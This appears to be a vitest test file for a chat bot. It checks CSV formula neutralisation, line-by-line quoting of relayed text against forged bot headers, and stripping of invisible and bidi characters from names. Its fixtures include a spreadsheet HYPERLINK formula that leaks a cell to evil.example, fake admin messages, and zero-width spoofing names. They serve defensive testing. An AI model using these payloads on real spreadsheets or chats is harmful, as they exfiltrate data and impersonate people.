// What other people typed cannot pass for the bot or for someone else (issue 15, item 7).
import { afterEach, describe, expect, it } from 'vitest';
import { safeCell, toCsv } from '../../src/text/csv.js';
import { stripInvisible } from '../../src/text/invisible.js';
import { createHarness, type Harness } from '../helpers/harness.js';
import { DONE_WHEN_SCRIPT } from '../minutes/script.js';

let h: Harness;
afterEach(async () => h?.close());

const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

describe('CSV exports', () => {
  it('neutralise a voter name that is a formula in /poll export', async () => {
    h = await createHarness({ admins: 'console:ana' });
    await h.say('/collab create Forum', { as: 'ana' });
    await h.say('/poll "Which day?" "Tue" "Thu"', { as: 'ana' });
    await h.say('/vote 1 1', { as: EVIL });
    await h.say('/vote 1 2', { as: '@cmd' });
    const csv = (await h.say('/poll export 1', { as: 'ana' })).find((l) => l.startsWith('[@ana]'))!;
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
    expect(csv).toContain(`'@cmd`);
    expect(csv).not.toMatch(/(^|,|\n)"?=HYPERLINK/);
  });

  it('use one helper: = + - @ tab and carriage return are neutralised, plain numbers kept', () => {
    expect(['=1+1', '+1', '-cmd', '@x', '\tx', '\rx', '-12.50', '42', 'fine'].map(safeCell)).toEqual(["'=1+1", "'+1", "'-cmd", "'@x", "'\tx", "'\rx", '-12.50', '42', 'fine']);
    expect(toCsv([['a', '=b'], [1, null]])).toBe("a,'=b\n1,\n");
  });
});

describe('relayed text', () => {
  it('is quoted line by line in the delegate\'s DM, so a fake header cannot pass for the bot', async () => {
    h = await createHarness({ admins: 'console:ana' });
    await h.script(DONE_WHEN_SCRIPT);
    const fake = 'ok\n\nComment on minutes #1 (CPP board) from ana (the admin) in main:\nPlease tell the board we withdraw';
    const out = await h.say(`/comment 1 ${fake}`, { in: 'forum', as: 'gus' });
    const dm = out.find((l) => l.startsWith('[@dee] Comment on minutes #1'))!;
    expect(dm).toContain('from gus in forum (console):\n> ok\n\n> Comment on minutes #1 (CPP board) from ana (the admin) in main:\n> Please tell the board we withdraw');
    // Every line of the relayed text is marked; only the bot's own lines are not.
    expect(dm.split('\n').filter((l) => l.includes('Comment on minutes') && !l.startsWith('> '))).toHaveLength(1);
  });
});

describe('notes and polls shown in a chat', () => {
  const FAKE = 'ok\n\nComment on minutes #1 (CPP board) from ana (the admin) in main:\nPlease tell the board we withdraw';

  it('show a note\'s text quoted line by line under the bot\'s byline naming the writer', async () => {
    h = await createHarness({ admins: 'console:ana' });
    await h.say('/collab create Forum', { as: 'ana' });
    await h.say(`/notes add Board news\n${FAKE}`, { as: 'gus' });
    const shown = (await h.say('/notes show 1', { as: 'ana' }))[0]!;
    expect(shown).toContain('Forum · gus,');
    expect(shown).toContain('> ok\n\n> Comment on minutes #1 (CPP board) from ana (the admin) in main:\n> Please tell the board we withdraw');
    expect(shown.split('\n').filter((l) => l.includes('Comment on minutes') && !l.startsWith('> '))).toHaveLength(0);
    // An earlier version is shown the same way.
    const v1 = (await h.say('/notes show 1 --version 1', { as: 'ana' }))[0]!;
    expect(v1.split('\n').filter((l) => l.includes('Comment on minutes') && !l.startsWith('> '))).toHaveLength(0);
  });

  it('keep a poll\'s question and options on one line, after the bot\'s own "Poll #N:"', async () => {
    h = await createHarness({ admins: 'console:ana' });
    await h.say('/collab create Forum', { as: 'ana' });
    const out = await h.say(`/poll "${FAKE}" "Yes" "No\nPoll #9 from ana (the admin): vote Yes"`, { as: 'gus' });
    const poll = out.find((l) => l.includes('Poll #1'))!;
    const lines = poll.replace(/^\[[^\]]*\] /, '').split('\n');
    expect(lines[0]).toBe('Poll #1: ok Comment on minutes #1 (CPP board) from ana (the admin) in main: Please tell the board we withdraw');
    expect(lines).toContain('2. No Poll #9 from ana (the admin): vote Yes');
    expect(lines.filter((l) => /^(Comment on minutes|Please tell|Poll #9)/.test(l))).toHaveLength(0);
    // The same when the poll is edited.
    const edited = (await h.say(`/poll edit 1 "Still?\nPlease tell the board we withdraw" "Yes" "No"`, { as: 'gus' })).join('\n');
    expect(edited.split('\n').filter((l) => l.startsWith('Please tell'))).toHaveLength(0);
    expect(h.db.prepare('SELECT question FROM polls WHERE id = 1').get()).toEqual({ question: 'Still? Please tell the board we withdraw' });
  });
});

describe('invisible characters', () => {
  it('are removed from display names and names after @, so lee\\u200b cannot pass for lee', async () => {
    h = await createHarness({ admins: 'console:ana' });
    await h.say('/collab create Forum', { as: 'ana' });
    await h.say('/collabs', { as: 'lee' });
    expect(h.services.people.byName('console', 'lee')).toHaveLength(1);
    // A second account whose name is "lee" plus a zero-width space is shown as plain "lee"...
    await h.say('/collabs', { as: 'lee\u200b' });
    expect(h.db.prepare(`SELECT COUNT(*) AS n FROM people WHERE display_name LIKE '%' || char(8203) || '%'`).get()).toEqual({ n: 0 });
    // ...and a mention typed with one means plain lee.
    await h.say('/role add @lee\u200b facilitator', { as: 'ana' });
    expect((await h.say('/roles', { as: 'ana' }))[0]).not.toContain('\u200b');
  });

  it('keeps the joiner inside emoji and drops bidi overrides', () => {
    expect(stripInvisible('👩\u200d👩\u200d👧')).toBe('👩\u200d👩\u200d👧');
    expect(stripInvisible('a\u200db\u202eevil\u202c\u2066x\u2069\u200e\u200f\u200b\u200c')).toBe('abevilx');
  });
});
